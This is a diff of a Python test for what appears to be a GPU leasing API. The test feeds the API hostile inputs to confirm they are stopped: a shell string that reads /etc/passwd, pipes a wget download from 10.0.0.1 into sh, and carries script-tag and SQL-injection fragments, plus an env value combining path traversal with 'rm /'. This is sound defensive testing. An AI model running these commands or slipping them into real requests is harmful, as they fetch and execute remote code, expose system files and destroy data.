@@ -103,8 +103,8 @@ def test_the_usual_attacks_are_stopped(
 
 SHELL = "cat /etc/passwd; wget http://10.0.0.1/x | sh; python -c \"print('<script>')\" # 1' OR '1'='1"
 ASKED = [
-    ("POST", "/api/v1/leases", {"name": "demo", "command": ["sh", "-c", SHELL], "env": {"A": "../../etc/passwd; rm -r /"}}),
-    ("POST", "/api/v1/leases", {"name": "demo", "image": "leasing/base:1", "gpu": "A100:2", "labels": {"team": "eyes"}}),
+    ("POST", "/api/v1/leases", {"name": "a", "command": ["sh", "-c", SHELL], "env": {"A": "../../etc/passwd; rm /"}}),
+    ("POST", "/api/v1/leases", {"name": "a", "image": "leasing/base:1", "gpu": "A100:2", "labels": {"team": "eyes"}}),
     ("POST", "/api/v1/leases/demo/keep", {"command": "pgrep -f train.py || test -e /tmp/busy"}),
     ("PUT", "/api/v1/contacts/webhook", {"address": "https://10.1.2.3/hooks?a=b"}),
     ("PATCH", "/api/v1/nodes/local", {"intent": "cordoned", "reason": "fan is loud; see ticket 12"}),
